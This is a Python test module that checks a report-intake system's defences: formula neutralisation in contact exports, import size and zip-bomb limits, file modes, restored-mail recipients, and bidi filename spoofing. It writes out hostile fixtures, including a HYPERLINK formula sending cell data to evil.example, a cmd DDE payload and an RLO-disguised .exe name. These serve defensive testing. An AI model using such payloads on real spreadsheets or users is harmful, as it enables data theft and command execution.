"""§7 Files it writes and restores: spreadsheets, imports, folder and lock modes, restored mail, file names.

Each attack is built by code: a contact whose name is a formula, a sheet too big or
too slow or a zip bomb, `umask 000`, a restored outbox writing to strangers, a report
whose attachment name hides its extension behind a bidi override.
"""
from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import zipfile
from datetime import UTC, datetime
from email.utils import make_msgid
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from intake.sources.maildir import deliver
from notifier.safe_text import FORMULA_START
from tests import mailfactory
from tests.cli_helpers import TDC_BOT, cli_json, run_cli, write_config
from tests.security.test_files import OUTSIDER, _queue
from tests.test_contacts import NOW, shipped_config
from tests.web.test_board_http import PASSWORD, call, client, login, serving
from workflow import accounts
from workflow.app import App
from workflow.db import models
from workflow.operations.backup import create_backup
from workflow.operations.restore_safety import HELD_REASON
from workflow.season import contact_sheet, contacts

HOSTILE = {"name": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "phone": "+84 912 345 678",
           "unit": "@SUM(1+1)*cmd|' /C calc'!A0", "role": "-2+3"}


# --- contacts export ------------------------------------------------------------------------------
@pytest.fixture
def book(tmp_path: Path) -> Path:
    config = shipped_config(tmp_path, f"sqlite:///{tmp_path / 'tdc.db'}")
    app = App.load(str(config))
    try:
        with app.db.transaction() as session:
            contacts.add(session, app.roster_base, "Tây Ninh", "daumoi@tayninh.example.org", actor="ĐPV", now=NOW,
                         **HOSTILE)
            contacts.add(session, app.roster_base, "Bộ Y tế", "vanthu@moh.example.org", actor="ĐPV", now=NOW,
                         name="Lê Văn Cường", phone="0243 000 111")
    finally:
        app.close()
    return config


def _stored(config: Path) -> dict[str, dict[str, object]]:
    rows = json.loads(run_cli("contacts", "list", "--json", config=config).stdout)
    return {r["email"]: r for r in rows}


def test_contacts_export_neutralises_formulas_in_csv_and_xlsx_and_reads_back_exactly(book: Path, tmp_path: Path
                                                                                     ) -> None:
    before = _stored(book)
    assert before["daumoi@tayninh.example.org"]["name"] == HOSTILE["name"]  # stored as the agency wrote it
    csv_out, xlsx_out = tmp_path / "danh-ba.csv", tmp_path / "danh-ba.xlsx"
    run_cli("contacts", "export", "--out", str(csv_out), config=book)
    run_cli("contacts", "export", "--out", str(xlsx_out), config=book)

    cells = [c for row in csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], cells
    assert f"'{HOSTILE['name']}" in cells and f"'{HOSTILE['phone']}" in cells  # shown, with the exports' apostrophe

    sheet = load_workbook(xlsx_out).active  # formulas as formulas, not their cached values
    values = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert not [c.value for c in values if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert f"'{HOSTILE['unit']}" in [c.value for c in values]

    for out in (csv_out, xlsx_out):  # `contacts import` reads its own export back to the very values
        fresh = tmp_path / f"fresh-{out.suffix[1:]}"
        fresh.mkdir()
        other = shipped_config(fresh, f"sqlite:///{fresh / 'tdc.db'}")
        run_cli("contacts", "import", str(out), config=other)
        after = _stored(other)
        for email, row in before.items():
            for key in ("name", "phone", "unit", "role"):
                assert after[email][key] == row[key], (out.suffix, email, key)


# --- contacts import is bounded ---------------------------------------------------------------------
def test_contacts_import_refuses_a_file_too_large(book: Path, tmp_path: Path) -> None:
    big = tmp_path / "lon.csv"
    line = "Tây Ninh,daumoi@tayninh.example.org," + "x" * 200 + "\n"
    big.write_text("Đơn vị,Email,Họ tên\n" + line * 30_000, encoding="utf-8")  # 6.8 MB
    proc = run_cli("contacts", "import", str(big), config=book, check=False)
    assert proc.returncode == 2
    assert proc.stderr.startswith("lon.csv: tệp 6,8 MB, quá giới hạn 5 MB cho một lần nhập danh bạ; hãy chia thành")


def test_contacts_import_refuses_too_many_rows(book: Path, tmp_path: Path) -> None:
    many = tmp_path / "nhieu.csv"
    many.write_text("Đơn vị,Email\n" + "".join(f"Tây Ninh,n{i}@tayninh.example.org\n" for i in range(6000)),
                    encoding="utf-8")  # 240 KB: small, but more lines than any real book
    proc = run_cli("contacts", "import", str(many), config=book, check=False)
    assert proc.returncode == 2 and "có hơn 5.000 dòng" in proc.stderr, proc.stderr
    assert "n5@tayninh.example.org" not in _stored(book)  # nothing imported


def _xlsx(path: Path, sheet_rows: str, repeat: int = 1) -> Path:
    """A minimal workbook written by hand, so its sheet can be anything (and huge once unpacked)."""
    parts = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
        '+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet '
        'name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                        b'2006/main"><sheetData>')
            for _ in range(repeat):
                sheet.write(sheet_rows.encode())
            sheet.write(b"</sheetData></worksheet>")
    return path


def test_contacts_import_refuses_an_xlsx_bomb(tmp_path: Path) -> None:
    padding = '<row r="1"><c t="inlineStr"><is><t>' + "a" * 10_000 + "</t></is></c></row>"
    bomb = _xlsx(tmp_path / "bom.xlsx", padding, repeat=8_000)  # 80 MB of XML in a few hundred KB
    assert bomb.stat().st_size < 1024 * 1024
    with pytest.raises(contacts.ContactError, match="giải nén ra .* quá giới hạn 50 MB"):
        contact_sheet.read_table(bomb)


def test_contacts_import_stops_at_the_row_cap_of_a_sparse_sheet(tmp_path: Path) -> None:
    """One cell at row 1,000,000: a reader that fills the gap would hand back a million empty rows."""
    sparse = _xlsx(tmp_path / "thua.xlsx", '<row r="1"><c r="A1" t="inlineStr"><is><t>Đơn vị</t></is></c></row>'
                                           '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>')
    with pytest.raises(contacts.ContactError, match="có hơn 5.000 dòng"):
        contact_sheet.read_table(sparse)


def test_contacts_import_stops_when_checking_takes_too_long(roster) -> None:  # type: ignore[no-untyped-def]
    """Lines that name no agency make each look-up scan every name; past the time budget the import stops."""
    rows = [(1, ["Đơn vị", "Email"])] + [(i + 2, [f"Sở Khoa học và Công nghệ không có thật số {i}",
                                                  f"n{i}@x.example.org"]) for i in range(4_999)]
    limits = contact_sheet.ImportLimits(max_seconds=0.2)
    with pytest.raises(contacts.ContactError, match="quá 0,2 giây nên đã dừng, không nhập gì"):
        contact_sheet.check_table(roster, rows, limits=limits)
    assert not contact_sheet.check_table(roster, rows[:3]).lines  # the same lines, few enough, are simply reported


# --- folders and locks whatever the umask -----------------------------------------------------------
def test_folders_are_0750_or_0700_and_lock_files_0600_under_umask_000(tmp_path: Path) -> None:
    var = tmp_path / "var"
    maildir = tmp_path / "mail"
    deliver(maildir, mailfactory.report_email(), when=datetime(2024, 11, 20, 2, tzinfo=UTC))
    config = tmp_path / "tdc.toml"
    config.write_text(
        f'[database]\nurl = "sqlite:///{var / "db" / "tdc.db"}"\n[storage]\npath = "{var / "lib" / "store"}"\n'
        f'[mailbox]\nsource = "maildir"\nmaildir = "{maildir}"\n'
        f'[smtp]\ntransport = "file"\noutbox_dir = "{var / "spool" / "outbox"}"\n'
        'from = "Hệ thống tiếp nhận báo cáo <baocao@tdc.example.vn>"\n[reminders]\nenabled = false\n',
        encoding="utf-8")
    proc = subprocess.run(["sh", "-c", f'umask 000 && exec "{TDC_BOT}" run --once --config "{config}"'],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    folders = [p for p in var.rglob("*") if p.is_dir()] + [var]
    assert len(folders) > 8 and (var / "lib" / "store" / "attachments").is_dir()
    loose = {str(p.relative_to(tmp_path)): oct(stat.S_IMODE(p.stat().st_mode)) for p in folders
             if stat.S_IMODE(p.stat().st_mode) not in (0o750, 0o700)}
    assert not loose, loose
    locks = [var / "lib" / "store" / "intake.lock", var / "db" / "tdc.db.startup.lock"]
    assert {str(p): oct(stat.S_IMODE(p.stat().st_mode)) for p in locks} == {str(p): "0o600" for p in locks}
    assert list((var / "spool" / "outbox").iterdir())  # the ack was written, in a folder of its own mode


# --- outbox release --restored ---------------------------------------------------------------------
STRANGER = "nguoi.la@gmail.com"
VERIFIED = "can.bo.tayninh@gmail.com"


def _gmail_report(sender: str) -> bytes:
    return mailfactory.report_email(sender=sender, subject=f"Báo cáo NSCL 2024 ({sender})",
                                    message_id=make_msgid(domain="gmail.com"))


def test_release_restored_sends_only_to_addresses_the_bot_could_have_written_to(tmp_path: Path) -> None:
    extra = '[coordinators]\nemails = ["Điều phối <dpv@tdc.example.vn>"]\n'
    src = tmp_path / "src"
    src.mkdir()
    config = write_config(src, f"sqlite:///{src / 'tdc.db'}", extra)
    when = datetime(2024, 11, 20, 2, tzinfo=UTC)
    for sender in (STRANGER, VERIFIED):
        deliver(src / "mail", _gmail_report(sender), when=when)
    run_cli("run", "--once", config=config)  # both stored; acks already sent, none left to restore
    app = App.load(str(config))
    try:
        with app.db.transaction() as session:
            (verified,) = session.scalars(select(models.Message).where(models.Message.from_addr == VERIFIED)).all()
            verified.sender_auth = "pass"  # what intake records when our server vouched for the sender
            contacts.add(session, app.roster_base, "Tây Ninh", "daumoi@tayninh.example.org", actor="ĐPV", now=NOW)
        queued = {
            "roster": ["vanthu@skhcn.tayninh.gov.vn"], "contact": ["daumoi@tayninh.example.org"],
            "coordinator": ["dpv@tdc.example.vn"], "verified": [VERIFIED],
            "unverified": [STRANGER], "outsider": [OUTSIDER],
        }
        for key, recipients in queued.items():
            _queue(app, dedupe_key=key, kind="ack", recipients=recipients, attachments=[])
        _queue(app, dedupe_key="cc-outsider", kind="reminder", recipients=["vanthu@skhcn.tayninh.gov.vn"],
               cc=[OUTSIDER], attachments=[])
        archive = create_backup(app, tmp_path / "b.tar.gz").path
    finally:
        app.close()

    dst = tmp_path / "dst"
    dst.mkdir()
    target = write_config(dst, f"sqlite:///{dst / 'tdc.db'}", extra)
    run_cli("restore", str(archive), config=target)
    results = {r["id"]: r for r in cli_json("outbox", "release", "--restored", config=target)}
    app = App.load(str(target))
    try:
        with app.db.sessions() as session:
            rows = {r.dedupe_key: r for r in session.scalars(select(models.OutboxEmail))
                    if r.dedupe_key in {*queued, "cc-outsider"}}
    finally:
        app.close()
    released = {key for key, row in rows.items() if results[row.id]["released"]}
    assert released == {"roster", "contact", "coordinator", "verified"}, {k: results[r.id] for k, r in rows.items()}
    for key in ("unverified", "outsider", "cc-outsider"):
        row = rows[key]
        assert row.state == models.SUPPRESSED and row.last_error == HELD_REASON
        (problem,) = results[row.id]["problems"]
        address = STRANGER if key == "unverified" else OUTSIDER
        assert f"chưa từng có lý do viết tới {address}" in problem and f"outbox release {row.id}`" in problem
    one = rows["outsider"].id  # a person who looked at it may still send it, by its id
    (alone,) = cli_json("outbox", "release", str(one), config=target)
    assert alone["released"] and alone["problems"] == []


# --- file names ---------------------------------------------------------------------------------------
TRICKY = "Báo cáo\u200b NSCL\u202egpj.exe"  # shows as "Báo cáo NSCLexe.jpg"; a zero-width space inside
TRICKY_CHARS = ("\u202e", "\u200b")


def test_bidi_and_zero_width_characters_are_neutralised_in_the_boards_file_names(tmp_path: Path) -> None:
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'tdc.db'}")
    deliver(tmp_path / "mail", mailfactory.report_email(filename=TRICKY + ".docx"),
            when=datetime(2024, 11, 20, 2, tzinfo=UTC))
    run_cli("run", "--once", config=config)
    app = App.load(str(config))
    with app.db.transaction() as s:
        accounts.add_user(s, "dieuphoi@example.vn", PASSWORD)
        (att,) = s.scalars(select(models.Attachment)).all()
        att_id, stored_name = att.id, att.filename
    assert "\u202e" in stored_name  # the evidence keeps what the sender wrote
    try:
        with serving(app) as board:
            opener, _ = client()
            login(opener, board.base)
            status, _, page = call(opener, f"{board.base}/agency/tay-ninh/2024")
            assert status == 200
            shown = page.split(f'data-attachment="{att_id}"')[1].split("</a>")[0]
            assert "NSCLgpj.exe.docx" in shown and not any(ch in shown for ch in TRICKY_CHARS), repr(shown)
            assert not any(f"&#{ord(ch)};" in page or f"&#x{ord(ch):x};" in page for ch in TRICKY_CHARS)
            status, headers, _ = call(opener, f"{board.base}/attachment/{att_id}")
            disposition = headers["content-disposition"]
            assert status == 200 and "%E2%80%AE" not in disposition.upper() and "%E2%80%8B" not in disposition.upper()
            assert "NSCLgpj.exe.docx" in disposition
    finally:
        app.close()


def test_bidi_and_zero_width_characters_are_neutralised_in_a_sent_attachments_name(tmp_path: Path) -> None:
    from notifier.compose import compose

    path = tmp_path / "f.docx"
    path.write_bytes(b"PK")
    row = SimpleNamespace(kind="digest", recipients=["a@b.vn"], cc=None, subject="Tổng hợp", body_text="x",
                          body_html=None, message_id_header="<x@tdc.example.vn>", in_reply_to=None, references=None,
                          attachments=[{"path": str(path), "filename": TRICKY + ".docx",
                                        "content_type": "application/octet-stream"}])
    msg = compose(row, "Hệ thống <baocao@tdc.example.vn>")  # type: ignore[arg-type]
    (part,) = list(msg.iter_attachments())
    name = part.get_filename()
    assert name == "Báo cáo NSCLgpj.exe.docx" and not any(ch in name for ch in TRICKY_CHARS)
    raw = msg.as_bytes()
    assert b"%E2%80%AE" not in raw.upper() and "\u202e".encode() not in raw
    assert os.path.exists(path)
